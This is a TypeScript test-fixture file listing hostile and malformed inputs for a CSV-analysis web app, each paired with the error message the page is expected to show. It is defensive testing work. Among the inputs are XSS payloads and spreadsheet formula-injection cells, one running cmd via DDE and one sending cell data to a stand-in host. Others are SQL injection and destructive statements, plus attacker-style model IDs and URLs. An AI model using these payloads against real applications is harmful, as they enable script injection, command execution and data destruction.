/**
 * The bad-input corpus: files, goals, SQL, links and stored values a careless or hostile person
 * could give the app, each with the message the page must show. Row counts of files that load are
 * the rows each file was written with, counted here, not read from the app. Every payload, if it
 * ran, would set `window.__pwned` or open a dialog.
 */

export const PAYLOAD_HTML = '<img src=x onerror="window.__pwned=1;alert(1)">';
export const PAYLOAD_SCRIPT = '<script>window.__pwned=1;alert(1)</script>';

export interface FileCase {
  name: string;
  fileName: string;
  bytes: () => Uint8Array;
  /** What the banner or the load report says. */
  message: RegExp;
  /** Rows the file holds when it loads; undefined when it must be refused (the old data stays). */
  rows?: number;
}

const text = (value: string) => () => new TextEncoder().encode(value);

/** A small valid table of `n` rows, with `extra` appended to each data line's last cell. */
function table(n: number, header = 'id,age,city', row = (i: number) => `${i},${20 + (i % 50)},Pune`): string {
  return [header, ...Array.from({ length: n }, (_, i) => row(i + 1))].join('\n') + '\n';
}

export const FILE_CASES: FileCase[] = [
  { name: 'an empty file', fileName: 'empty.csv', bytes: text(''), message: /empty/i },
  {
    name: 'only blank lines',
    fileName: 'blank.csv',
    bytes: text('\n\n  \n\n'),
    message: /empty|no rows|header/i,
  },
  {
    name: 'a header and no rows',
    fileName: 'header-only.csv',
    bytes: text('id,age,city\n'),
    message: /no (data )?rows/i,
  },
  {
    name: 'a PNG renamed .csv',
    fileName: 'image.csv',
    bytes: () =>
      new Uint8Array([
        0x89,
        0x50,
        0x4e,
        0x47,
        0x0d,
        0x0a,
        0x1a,
        0x0a,
        0,
        0,
        0,
        13,
        0x49,
        0x48,
        0x44,
        0x52,
        ...new Array(200).fill(0),
      ]),
    message: /binary|not a (CSV|text)/i,
  },
  {
    name: 'random bytes with NULs',
    fileName: 'noise.csv',
    bytes: () => Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256),
    message: /binary|not a (CSV|text)/i,
  },
  {
    name: 'a zip (xlsx) renamed .csv',
    fileName: 'book.csv',
    bytes: () => new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...new Array(300).fill(0)]),
    message: /binary|not a (CSV|text)|spreadsheet|zip/i,
  },
  {
    name: 'UTF-16 text',
    fileName: 'utf16.csv',
    bytes: () => {
      const body = table(40);
      const out = new Uint8Array(2 + body.length * 2);
      out.set([0xff, 0xfe]);
      for (let i = 0; i < body.length; i++) out[2 + 2 * i] = body.charCodeAt(i);
      return out;
    },
    // Decoded by its byte-order mark: the values read as text, not as bytes.
    message: /Pune/,
    rows: 40,
  },
  {
    name: 'a byte-order mark',
    fileName: 'bom.csv',
    bytes: text('\uFEFF' + table(60)),
    message: /./,
    rows: 60,
  },
  {
    name: 'semicolons as the delimiter',
    fileName: 'semicolon.csv',
    bytes: text(table(50, 'id;age;city', (i) => `${i};${30 + (i % 9)};Delhi`)),
    message: /./,
    rows: 50,
  },
  {
    name: 'tabs as the delimiter',
    fileName: 'tabs.csv',
    bytes: text(table(45, 'id\tage\tcity', (i) => `${i}\t${30 + (i % 9)}\tDelhi`)),
    message: /./,
    rows: 45,
  },
  {
    name: 'one column, no delimiter',
    fileName: 'one-column.csv',
    bytes: text(table(35, 'age', (i) => `${20 + (i % 30)}`)),
    message: /./,
    rows: 35,
  },
  {
    name: 'duplicate headers',
    fileName: 'duplicate-headers.csv',
    bytes: text(table(40, 'age,age,city')),
    message: /./,
    rows: 40,
  },
  {
    name: 'empty headers',
    fileName: 'empty-headers.csv',
    bytes: text(table(40, ',age,')),
    message: /./,
    rows: 40,
  },
  {
    name: 'rows with missing and extra cells',
    fileName: 'ragged.csv',
    bytes: text(
      table(50, 'id,age,city', (i) =>
        i % 10 === 0 ? `${i},30` : i % 10 === 5 ? `${i},30,Pune,extra,more` : `${i},30,Pune`,
      ),
    ),
    message: /row|cell/i,
    rows: 50,
  },
  {
    name: 'an unclosed quote',
    fileName: 'unclosed.csv',
    bytes: text(table(80, 'id,age,city', (i) => (i === 20 ? `${i},30,"Pune` : `${i},30,Pune`))),
    message: /quote/i,
    rows: 80,
  },
  {
    name: 'quotes anywhere',
    fileName: 'quotes.csv',
    bytes: text(table(40, 'id,note,city', (i) => `${i},"say ""hi"" ${i}",Pu"ne`)),
    message: /./,
    rows: 40,
  },
  {
    name: 'formula cells',
    fileName: 'formulas.csv',
    bytes: text(
      table(
        40,
        'id,note,city',
        (i) =>
          `${i},"${['=HYPERLINK(""http://x/?""&A1,""click"")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'][i % 4]}",Pune`,
      ),
    ),
    message: /./,
    rows: 40,
  },
  {
    name: 'HTML and script in headers and cells',
    fileName: 'html.csv',
    bytes: text(
      table(40, `id,${PAYLOAD_HTML.replace(/"/g, "'")},city`, (i) => `${i},"${PAYLOAD_SCRIPT}",Pune`),
    ),
    message: /./,
    rows: 40,
  },
  {
    name: 'one huge line (2 MB in a cell)',
    fileName: 'huge-line.csv',
    bytes: text(`id,note\n1,${'x'.repeat(2 * 1024 * 1024)}\n${table(40).split('\n').slice(1).join('\n')}`),
    message: /./,
    rows: 41,
  },
  {
    name: 'a 5,000-character header',
    fileName: 'long-header.csv',
    bytes: text(table(40, `id,${'h'.repeat(5000)},city`)),
    message: /./,
    rows: 40,
  },
  {
    name: 'Latin-1 bytes',
    fileName: 'latin1.csv',
    bytes: () =>
      Uint8Array.from(
        table(40, 'id,age,city', (i) => `${i},30,M\u00fcnchen`),
        (c) => c.charCodeAt(0) & 0xff,
      ),
    message: /./,
    rows: 40,
  },
  {
    name: 'carriage returns only',
    fileName: 'cr.csv',
    bytes: text(table(40).replace(/\n/g, '\r')),
    message: /./,
    rows: 40,
  },
  {
    name: 'JSON, not CSV',
    fileName: 'data.json',
    bytes: text(JSON.stringify(Array.from({ length: 40 }, (_, i) => ({ id: i, age: 30 })))),
    message: /CSV|column|header|one column/i,
  },
];

export interface TextCase {
  name: string;
  text: string;
  message: RegExp;
}

export const GOAL_CASES: TextCase[] = [
  // Nothing to run: the page stays as it was.
  { name: 'empty', text: '', message: /./ },
  { name: 'spaces only', text: '     ', message: /./ },
  { name: '5,000 characters', text: 'young mothers '.repeat(358).slice(0, 5000), message: /./ },
  { name: 'emoji only', text: '👩‍👧🎉🔥', message: /./ },
  { name: 'SQL injection', text: "women'); DROP TABLE data; --", message: /./ },
  { name: 'HTML injection', text: PAYLOAD_HTML, message: /./ },
  { name: 'script injection', text: PAYLOAD_SCRIPT, message: /./ },
  { name: 'nothing the data holds', text: 'xyzzy plugh frobnicate', message: /./ },
];

export const SQL_CASES: TextCase[] = [
  { name: 'DROP TABLE', text: 'DROP TABLE data', message: /SELECT|read-only|cannot/i },
  { name: 'DELETE', text: 'DELETE FROM data', message: /SELECT|read-only|cannot/i },
  { name: 'UPDATE', text: "UPDATE data SET city = 'x'", message: /SELECT|read-only|cannot/i },
  { name: 'INSERT', text: 'INSERT INTO data DEFAULT VALUES', message: /SELECT|read-only|cannot/i },
  { name: 'CREATE TABLE', text: 'CREATE TABLE t(x)', message: /SELECT|read-only|cannot/i },
  { name: 'ATTACH', text: "ATTACH DATABASE 'file:x?mode=memory' AS x", message: /SELECT|read-only|cannot/i },
  { name: 'PRAGMA', text: 'PRAGMA writable_schema = 1', message: /SELECT|read-only|cannot/i },
  { name: 'a SELECT then a DROP', text: 'SELECT 1; DROP TABLE data', message: /one|single|statement/i },
  {
    name: 'a write inside a CTE',
    text: 'WITH x AS (SELECT 1) DELETE FROM data',
    message: /SELECT|read-only|cannot/i,
  },
  { name: 'load_extension', text: "SELECT load_extension('x')", message: /./ },
  { name: 'a syntax error', text: 'SELEC * FROM data', message: /syntax|error/i },
  { name: 'an unknown column', text: 'SELECT nope FROM data', message: /no such column|nope/i },
  { name: 'empty', text: '   ', message: /SELECT|empty|type/i },
];

export interface LinkCase {
  name: string;
  search: string;
  /** The goal the page shows. */
  goal: string;
  message: RegExp;
}

export const LINK_CASES: LinkCase[] = [
  {
    name: 'a script as the goal',
    search: `?goal=${encodeURIComponent(PAYLOAD_SCRIPT)}`,
    goal: PAYLOAD_SCRIPT,
    message: /./,
  },
  {
    name: 'a model from the hub',
    search: '?goal=moms&model=attacker/evil-model',
    goal: 'moms',
    message: /attacker\/evil-model/,
  },
  {
    name: 'a model id with a path and a URL',
    search: '?model=https://evil.example/x&goal=moms',
    goal: 'moms',
    message: /./,
  },
  {
    name: 'malformed k, seed, algorithm and domain',
    search: '?goal=moms&k=abc&seed=-1&algorithm=evil&domain=<b>x</b>',
    goal: 'moms',
    message: /./,
  },
  {
    name: 'a 5,000-character goal',
    search: `?goal=${'a'.repeat(5000)}`,
    goal: 'a'.repeat(300),
    message: /./,
  },
];

export interface StoredCase {
  name: string;
  entries: [string, string][];
}

export const STORED_CASES: StoredCase[] = [
  { name: 'a garbage keep flag', entries: [['personalens:keep', '{{not json']] },
  { name: 'a mapping that is not JSON', entries: [['personalens:mapping:*', '{not json']] },
  {
    name: 'a mapping that is an array of HTML',
    entries: [['personalens:mapping:*', JSON.stringify([PAYLOAD_HTML])]],
  },
  { name: 'conditions that are null', entries: [['personalens:conditions:*', 'null']] },
  {
    name: 'conditions with a payload',
    entries: [['personalens:conditions:*', JSON.stringify({ drop: [PAYLOAD_SCRIPT], picks: 7 })]],
  },
];
